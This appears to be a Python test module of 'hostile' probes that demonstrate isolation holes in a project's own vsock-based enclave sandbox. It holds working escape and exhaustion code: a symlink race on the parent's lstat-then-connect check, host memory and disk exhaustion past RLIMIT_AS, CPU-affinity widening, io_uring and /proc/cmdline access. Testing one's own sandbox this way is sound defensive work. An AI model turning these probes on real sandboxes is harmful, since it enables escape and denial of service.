"""Probes for holes found by the second hostile reading (uncommitted: each shows a hole).

Built into an image beside hostile_service.py; ``app`` is the hostile app with these
methods added.
"""

from __future__ import annotations

import ctypes
import errno
import os
import socket
import threading
import time
from pathlib import Path
from typing import Any

from hostile_service import (
    LIBC,
    MIB,
    X86_64_IO_URING_SETUP,
    address_space_limit,
    app,
    outcome,
    raw_syscall,
    write_until,
)

__all__ = ["app"]
HELD: list[socket.socket] = []
IPC_PRIVATE, IPC_CREAT, IPC_RMID = 0, 0o1000, 0


@app.method("vsock_listen")
async def vsock_listen(port: int) -> str:
    """Bind and listen on an AF_VSOCK port (kept open): the VM's vsock, not a namespace's."""

    def attempt() -> object:
        sock = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
        sock.bind((0xFFFFFFFF, port))
        sock.listen()
        HELD.append(sock)
        return sock.getsockname()

    return outcome(attempt)


@app.method("memory_beyond_limit")
async def memory_beyond_limit(_: object = None) -> dict[str, object]:
    """Host memory past RLIMIT_AS: a memfd written (never mapped), SysV segments touched
    one at a time (each detached before the next)."""
    limit = address_space_limit()
    beyond = limit + 128 * MIB
    report: dict[str, object] = {"limit_mib": limit >> 20}
    fd = os.memfd_create("hostile-hog")
    try:
        chunk = b"\1" * MIB
        done = 0
        try:
            while done < beyond:
                done += os.write(fd, chunk)
            report["memfd"] = f"SUCCEEDED {done >> 20} MiB held"
        except OSError as exc:
            report["memfd"] = f"refused: {errno.errorcode.get(exc.errno or 0)} at {done >> 20}"
    finally:
        os.close(fd)
    segments: list[int] = []
    size = 128 * MIB
    try:
        while len(segments) * size < beyond:
            sid = LIBC.shmget(IPC_PRIVATE, ctypes.c_size_t(size), 0o600 | IPC_CREAT)
            if sid < 0:
                report["sysv"] = f"refused: {errno.errorcode.get(ctypes.get_errno())} (shmget)"
                break
            segments.append(sid)
            address = LIBC.shmat(sid, None, 0)
            if address in (None, ctypes.c_void_p(-1).value):
                report["sysv"] = f"refused: {errno.errorcode.get(ctypes.get_errno())} (shmat)"
                break
            ctypes.memset(address, 1, size)
            LIBC.shmdt(ctypes.c_void_p(address))
        else:
            report["sysv"] = f"SUCCEEDED {len(segments) * size >> 20} MiB held"
    finally:
        for sid in segments:
            LIBC.shmctl(sid, IPC_RMID, None)
    return report


@app.method("fill_endpoint_dir")
async def fill_endpoint_dir(_: object = None) -> dict[str, object]:
    """Write past the enclave's memory into its own endpoint directory (host disk)."""
    own = Path(os.environ["HERMETIC_VSOCK_DIR"]) / os.environ["HERMETIC_VSOCK_CID"] / "enclave"
    limit = address_space_limit()
    free = os.statvfs(own)
    return {
        "limit_mib": limit >> 20,
        "filesystem_free_gib": free.f_bavail * free.f_frsize >> 30,
        "write": write_until(str(own / "hostile-fill"), limit + 128 * MIB),
    }


@app.method("widen_cpus")
async def widen_cpus(_: object = None) -> dict[str, object]:
    before = sorted(os.sched_getaffinity(0))
    set_all = outcome(lambda: os.sched_setaffinity(0, range(os.cpu_count() or 1)))
    return {"before": before, "set_all": set_all, "after": sorted(os.sched_getaffinity(0))}


@app.method("io_uring")
async def io_uring(_: object = None) -> str:
    params = ctypes.create_string_buffer(120)
    return raw_syscall(X86_64_IO_URING_SETUP, 4, ctypes.addressof(params))


@app.method("host_cmdline")
async def host_cmdline(_: object = None) -> str:
    return Path("/proc/cmdline").read_text()


@app.method("swap_endpoint")
async def swap_endpoint(arguments: dict[str, Any]) -> str:
    """For ``seconds``, flip the enclave's ``port`` endpoint between a real listening
    socket of its own and a symlink to ``target`` (a host path), to win the parent's
    lstat-then-connect race."""
    own = Path(os.environ["HERMETIC_VSOCK_DIR"]) / os.environ["HERMETIC_VSOCK_CID"] / "enclave"
    endpoint = own / f"{int(arguments['port'])}.sock"
    real = own / ".real.sock"
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(str(real))
    listener.listen(512)
    HELD.append(listener)

    def drain() -> None:  # accept and drop, so the parent's attempts never queue up
        while True:
            listener.accept()[0].close()

    threading.Thread(target=drain, daemon=True).start()
    deadline = time.monotonic() + float(arguments["seconds"])

    def flip() -> None:
        flips = 0
        while time.monotonic() < deadline:
            os.link(real, own / ".a")
            os.rename(own / ".a", endpoint)
            os.symlink(str(arguments["target"]), own / ".b")
            os.rename(own / ".b", endpoint)
            flips += 1

    threading.Thread(target=flip, daemon=True).start()
    return "flipping"


@app.method("console_flood")
async def console_flood(mib: int) -> str:
    """Write ``mib`` MiB to stdout: in --debug that is a file on the host's disk."""
    chunk = b"\1" * MIB
    done = 0
    try:
        while done < mib * MIB:
            done += os.write(1, chunk)
    except OSError as exc:
        return f"refused: {errno.errorcode.get(exc.errno or 0)} after {done >> 20} MiB"
    return f"SUCCEEDED {done >> 20} MiB"
